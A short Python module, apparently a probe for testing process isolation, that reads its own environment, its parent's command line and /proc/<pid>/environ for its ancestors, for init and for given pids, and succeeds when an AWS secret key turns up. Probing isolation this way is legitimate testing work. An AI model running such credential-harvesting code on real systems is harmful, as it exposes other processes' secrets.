"""Hunts for the application's secrets: its own environment, its parent's and every ancestor's, init's, and those of
the processes it is told about (the application and its launcher, by pid)."""

import os


def _read(path):
    try:
        with open(path, "rb") as source:
            return source.read().decode("utf-8", "replace")
    except OSError as exc:
        return f"{path}: {exc}"


def _parent_of(pid):
    for line in _read(f"/proc/{pid}/status").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 1


def _ancestors():
    pid, seen = os.getppid(), []
    while pid > 1 and pid not in seen:
        seen.append(pid)
        pid = _parent_of(pid)
    return seen


def handler(pids=()):
    targets = dict.fromkeys([*pids, *_ancestors(), 1])
    found = {"environ": dict(os.environ), "parent_cmdline": _read(f"/proc/{os.getppid()}/cmdline")}
    for pid in targets:
        found[f"environ of {pid}"] = _read(f"/proc/{pid}/environ")
    if "AWS_SECRET_ACCESS_KEY" in repr(found):
        return found
    raise PermissionError(f"no secret found: {found}")
